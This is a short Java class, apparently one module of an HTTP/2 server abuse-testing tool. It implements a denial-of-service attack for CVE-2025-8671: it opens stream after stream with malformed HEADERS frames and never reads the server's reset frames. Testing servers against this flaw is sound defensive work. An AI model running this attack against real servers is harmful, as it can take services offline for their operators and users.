package io.resound.abuse;

import java.nio.ByteBuffer;

import org.jspecify.annotations.Nullable;

/**
 * Sends malformed requests of HTTP/2, and reads none of the frames that reset their
 * streams (CVE-2025-8671).
 */
final class UnreadResets implements Attack {

	private static final byte[] MALFORMED = HeaderBlock.post().field("te", "gzip").bytes();

	@Override
	public String name() {
		return "HTTP/2: malformed requests, resets never read";
	}

	@Override
	public int bytesReadPerSecond() {
		return 0;
	}

	@Override
	public Script script() {
		return new Http2Script(Frames.INITIAL_WINDOW) {

			private int next = 1;

			@Override
			@Nullable ByteBuffer more() {
				int stream = this.next;
				this.next += 2;
				return Frames.frame(Frames.HEADERS, Frames.END_STREAM | Frames.END_HEADERS, stream, MALFORMED);
			}

		};
	}

}
